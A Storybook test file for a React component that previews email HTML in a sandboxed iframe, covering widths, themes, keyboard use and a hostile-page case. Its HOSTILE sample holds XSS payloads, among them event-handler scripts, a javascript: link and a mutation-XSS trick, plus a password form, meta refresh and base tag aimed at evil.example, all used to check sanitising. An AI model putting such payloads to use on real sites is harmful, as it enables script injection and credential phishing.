import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, userEvent, waitFor } from '@storybook/test'
import { BothThemes } from '../stories/BothThemes'
import { expectNoOverflow, Narrow as NarrowColumn } from '../stories/Narrow'
import { SandboxedPreview } from './SandboxedPreview'

const LETTER = `<style>.card { max-width: 400px; margin: auto; border: 1px solid #8886; border-radius: 10px; padding: 24px }</style>
<div class="card"><h1 style="font-size: 20px">Reset your password</h1><p>Hello Jonas Weber,</p>
<p>The link works for 30 minutes.</p><a href="https://example.com/reset" style="color: #0b6680">Choose a new password</a></div>`

/** Each would do something outside the preview, were it let. */
const HOSTILE = `<script>parent.postMessage('ran', '*')</script>
<img src="data:image/png;base64,x" onerror="parent.postMessage('ran', '*')">
<svg onload="parent.postMessage('ran', '*')"><script>parent.postMessage('ran', '*')</script></svg>
<form action="https://evil.example"><input name="password"><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<iframe srcdoc="<script>top.postMessage('ran','*')</script>"></iframe><object data="https://evil.example"></object>
<a href="javascript:parent.postMessage('ran','*')">Link</a><a href="data:text/html,x">Data</a>
<p class="MsoNormal" style="mso-style-name:x">From Word<o:p></o:p></p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=parent.postMessage('ran','*')&gt;">`

const meta = { title: 'UI/SandboxedPreview', component: SandboxedPreview, args: { html: LETTER, note: 'with sample data' } } satisfies Meta<
  typeof SandboxedPreview
>
export default meta
type Story = StoryObj<typeof meta>

const frameOf = async (canvasElement: HTMLElement): Promise<HTMLIFrameElement> =>
  waitFor(() => {
    const frame = canvasElement.querySelector('iframe')
    if (!frame?.srcdoc) throw new Error('The frame has no page yet')
    return frame
  })

export const AllStates: Story = {
  tags: ['visual'],
  render: () => (
    <BothThemes>
      {(theme) => (
        <>
          <SandboxedPreview html={LETTER} title={`Preview, ${theme}`} note="with sample data" head="Reset your Back Office password" />
          <SandboxedPreview html="" title={`Empty page, ${theme}`} />
        </>
      )}
    </BothThemes>
  ),
  play: async ({ canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelectorAll('iframe')).toHaveLength(4))
  },
}

export const WidthAndColours: Story = {
  play: async ({ canvas, canvasElement, step }) => {
    const frame = await frameOf(canvasElement)
    await step('The page can be seen at the width of a phone', async () => {
      await userEvent.click(canvas.getByRole('radio', { name: 'Phone width' }))
      await waitFor(() => expect(frame.clientWidth).toBeLessThanOrEqual(390))
    })
    await step('And in the dark', async () => {
      await userEvent.click(canvas.getByRole('radio', { name: 'Dark' }))
      await waitFor(() => expect(frame.srcdoc).toContain('<meta name="color-scheme" content="dark">'))
    })
  },
}

export const Keyboard: Story = {
  play: async ({ canvas, step }) => {
    await step('Arrows change width, the next Tab stop is the colours', async () => {
      await userEvent.tab()
      await userEvent.keyboard('{ArrowRight}')
      await expect(canvas.getByRole('radio', { name: 'Phone width' })).toBeChecked()
      await userEvent.tab()
      await expect(canvas.getByRole('radio', { name: 'Light' })).toHaveFocus()
    })
  },
}

export const HostilePage: Story = {
  name: 'F82 P22 a hostile page neither runs, nor sends, nor reaches the parent',
  args: { html: HOSTILE },
  play: async ({ canvasElement, step }) => {
    const heard: unknown[] = []
    const listen = ({ data }: MessageEvent) => {
      if (data === 'ran') heard.push(data)
    }
    window.addEventListener('message', listen)
    const frame = await frameOf(canvasElement)

    await step('The sandbox grants nothing, so the page has an origin of its own', async () => {
      await expect(frame.getAttribute('sandbox')).toBe('')
      await waitFor(() => expect(frame.contentDocument).toBeNull())
    })
    await step('What is dangerous was taken out before it got there', async () => {
      const page = new DOMParser().parseFromString(frame.srcdoc, 'text/html')
      await expect(page.querySelector('script, form, input, button, iframe, object, svg, math, [http-equiv="refresh"]')).toBeNull()
      await expect([...page.querySelectorAll('base')].map((base) => base.getAttribute('href'))).toEqual([null])
      await expect([...page.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([null, null])
      const handlers = [...page.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()).filter((name) => /^on/.test(name))
      await expect(handlers).toEqual([])
      await expect(page.body.textContent).toContain('From Word')
    })
    await step('From inside such a frame, parent and its storage are out of reach', async () => {
      await expect(await askFromInside(`${frame.getAttribute('sandbox')} allow-scripts`)).toBe('SecurityError SecurityError')
    })
    await step('No script of the page was heard', async () => {
      await expect(heard).toEqual([])
      window.removeEventListener('message', listen)
    })
  },
}

/** Runs a probe in a frame with the preview's sandbox, widened by scripts only, and gives the names of the errors it met. */
function askFromInside(sandbox: string): Promise<string> {
  const probe = document.createElement('iframe')
  const attempt = (code: string) => `(() => { try { ${code}; return 'reached' } catch (error) { return error.name } })()`
  probe.setAttribute('sandbox', sandbox)
  probe.title = 'Probe'
  probe.srcdoc = `<script>parent.postMessage({ probe: ${attempt('parent.localStorage.length')} + ' ' + ${attempt('parent.document.title')} }, '*')</script>`
  return new Promise((resolve) => {
    const answer = ({ data }: MessageEvent) => {
      if (typeof data?.probe !== 'string') return
      window.removeEventListener('message', answer)
      probe.remove()
      resolve(data.probe)
    }
    window.addEventListener('message', answer)
    document.body.append(probe)
  })
}

export const Narrow: Story = {
  render: () => (
    <NarrowColumn>
      <SandboxedPreview html={LETTER} note="with sample data" />
    </NarrowColumn>
  ),
  play: async ({ canvasElement }) => {
    await frameOf(canvasElement)
    expectNoOverflow(canvasElement)
  },
}
